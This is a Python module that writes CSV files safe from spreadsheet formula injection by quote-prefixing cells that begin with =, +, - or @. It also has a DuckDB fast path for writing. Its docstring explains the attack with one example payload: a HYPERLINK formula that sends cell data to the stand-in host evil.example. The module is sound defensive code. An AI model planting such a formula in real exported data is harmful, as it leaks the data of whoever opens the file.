"""CSV without formula injection (OWASP "CSV injection"): the one writer every CSV goes through.

A spreadsheet opening a CSV (or an .xlsx cell typed as a formula) evaluates a cell that
begins with ``=``, ``+``, ``-`` or ``@`` (and, in some programs, a tab or carriage return
followed by one of them). A force, team or id named ``=HYPERLINK("http://evil.example/?d="&A1,
"x")`` would then leak the sheet or run a command. :func:`safe_cell` neutralises such a text
cell by prefixing a single quote (``'=HYPERLINK(...)``), which spreadsheets show as text;
:func:`safe_frame` does it for every text cell of a table and :func:`write_csv` writes the
neutralised table (plus optional ``#`` header comment lines) to a path or an open text stream.

Numbers are never touched: a float ``-0.05`` stays a number, and a text cell that is exactly a
plain number (``"-5"``, ``"+0.25"``, ``"-1.5e-3"``) is left alone as well, since a plain number
is not a formula (``"-2+3"`` is, and is neutralised).

Pure Python and pandas (DuckDB writes the rows of a plain table, faster); used by the CLI
(``metrics/commands/*``) and by ``present.export``.
"""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import tempfile
from collections.abc import Iterable
from typing import Any, TextIO

import numpy as np
import pandas as pd

#: Characters that make a spreadsheet read a cell as a formula (OWASP): ``= + - @``, tab, CR.
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
#: What a dangerous cell is prefixed with: a single quote, shown by spreadsheets as text.
ESCAPE = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
_LINE_BREAKS = re.compile(r"[\r\n\u2028\u2029\x0b\x0c\x85]+")


def is_dangerous(value: object) -> bool:
    """True when ``value`` is text a spreadsheet would evaluate as a formula.

    Text beginning with one of :data:`FORMULA_PREFIXES`, unless it is exactly a plain number.
    Non-text values (numbers, None, dates) are never dangerous.
    """
    if not isinstance(value, str) or not value:
        return False
    return value.startswith(FORMULA_PREFIXES) and not _PLAIN_NUMBER.fullmatch(value)


def safe_cell(value: Any) -> Any:
    """``value`` made safe for a CSV or spreadsheet cell.

    Returns the text prefixed with ``'`` when :func:`is_dangerous`; every other value
    (numbers, None, plain text, plain numbers as text) unchanged.
    """
    return ESCAPE + value if is_dangerous(value) else value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every dangerous text cell (values and column names)
    neutralised by :func:`safe_cell`; numeric columns are returned untouched (same dtype)."""
    out = frame.copy()
    for col in out.columns:
        s = out[col]
        if s.dtype == object or isinstance(s.dtype, pd.CategoricalDtype | pd.StringDtype):
            if not _any_dangerous(s):
                continue  # the usual case: checked once per distinct value, left as it is
            # A list, not Series.map: map would turn a column of ints and floats into floats.
            out[col] = pd.Series([safe_cell(v) for v in s.astype(object)], index=out.index,
                                 dtype=object)
    out.columns = [safe_cell(c if isinstance(c, str) else str(c)) for c in out.columns]
    return out


def _any_dangerous(column: pd.Series) -> bool:
    """True when some cell of a text (or categorical) column is dangerous; each distinct value
    is checked once (a KPI table repeats a few dozen names over many thousand rows)."""
    if isinstance(column.dtype, pd.CategoricalDtype):
        values = column.cat.categories
    else:
        try:
            values = pd.unique(column.astype(object))
        except TypeError:  # unhashable cells: check every one
            values = column.astype(object)
    return any(is_dangerous(v) for v in values)


def header_line(text: str) -> str:
    """One ``#`` comment line for the top of a CSV: ``# text`` on a single line (line breaks
    in ``text`` become spaces), without the trailing newline."""
    flat = _LINE_BREAKS.sub(" ", str(text)).replace("\t", " ")
    return "# " + flat if not flat.startswith("#") else flat


def write_csv(frame: pd.DataFrame, out: str | os.PathLike[str] | TextIO,
              header_lines: Iterable[str] = (), *, index: bool = False) -> None:
    """Write ``frame`` as CSV to a path or an open text stream, formula-injection safe.

    ``header_lines`` are written first, each as ONE quoted CSV cell beginning with ``#``
    (:func:`header_line`), so no text in them can start a cell of its own; then the table
    through :func:`safe_frame` (empty cells for missing values, ``\\n`` line ends).
    A path is written as UTF-8 (a new file, replacing any old one).
    """
    lines = [header_line(h) for h in header_lines]
    if isinstance(out, str | os.PathLike):
        with open(out, "w", encoding="utf-8", newline="") as handle:
            _write(frame, handle, lines, index)
        return
    _write(frame, out, lines, index)


def to_csv_text(frame: pd.DataFrame, header_lines: Iterable[str] = ()) -> str:
    """The text :func:`write_csv` writes, as a string."""
    buf = io.StringIO()
    write_csv(frame, buf, header_lines)
    return buf.getvalue()


def _write(frame: pd.DataFrame, handle: TextIO, lines: list[str], index: bool) -> None:
    """Header lines (one cell each), then the neutralised table, to an open stream."""
    if index:  # index labels are cells too
        frame = frame.reset_index()
    if lines:
        writer = csv.writer(handle, lineterminator="\n", quoting=csv.QUOTE_MINIMAL)
        for line in lines:
            writer.writerow([line])
    safe = safe_frame(frame)
    if not _write_with_duckdb(safe, handle):
        safe.to_csv(handle, index=False, lineterminator="\n")


def _write_with_duckdb(frame: pd.DataFrame, handle: TextIO) -> bool:
    """Write ``frame`` (header, then rows) to ``handle`` with DuckDB's CSV writer, which is
    several times faster than pandas' on a KPI table of tens of thousands of rows, and return
    True; return False, writing nothing, unless the bytes are sure to be pandas' own: every
    column float64, int64 or text, as objects or categories (str or missing; never "", and no
    ``#`` or carriage return, which DuckDB quotes and Python's csv module does not), with
    unique text names. DuckDB writes a float as Python's repr does, a missing value as an
    empty cell, and quotes any other cell as Python's csv module does
    (tests/test_safe_csv_writer.py compares the two on random tables)."""
    names = list(frame.columns)
    if len(frame) == 0 or not all(isinstance(c, str) for c in names) or \
            len(set(names)) != len(names):
        return False
    columns = {}
    for i in range(len(names)):
        values = frame.iloc[:, i]
        if values.dtype == np.float64 or values.dtype == np.int64:
            columns[f"c{i}"] = values.to_numpy()
            continue
        if values.dtype == object:
            # as categories: DuckDB then reads each distinct text once, not one per row
            try:
                values = pd.Series(pd.Categorical(values.to_numpy()), index=values.index)
            except TypeError:  # unhashable cells
                return False
        elif not isinstance(values.dtype, pd.CategoricalDtype):
            return False
        # a str never equals a value of another type, so the distinct values tell
        if not all(type(v) is str and v and "#" not in v and "\r" not in v
                   for v in values.cat.categories):
            return False
        columns[f"c{i}"] = values.array
    import duckdb

    con = duckdb.connect()
    folder = tempfile.mkdtemp(prefix="flightdeck-csv-")  # private (0700), removed below
    try:
        con.register("flightdeck_rows", pd.DataFrame(columns, copy=False))
        target = os.path.join(folder, "rows.csv")
        con.execute(f"COPY flightdeck_rows TO '{target}' (FORMAT csv, HEADER false)")
        csv.writer(handle, lineterminator="\n", quoting=csv.QUOTE_MINIMAL).writerow(names)
        with open(target, encoding="utf-8", newline="") as rows:
            shutil.copyfileobj(rows, handle, 1 << 20)
    finally:
        con.close()
        shutil.rmtree(folder, ignore_errors=True)
    return True


__all__ = ["ESCAPE", "FORMULA_PREFIXES", "header_line", "is_dangerous", "safe_cell",
           "safe_frame", "to_csv_text", "write_csv"]
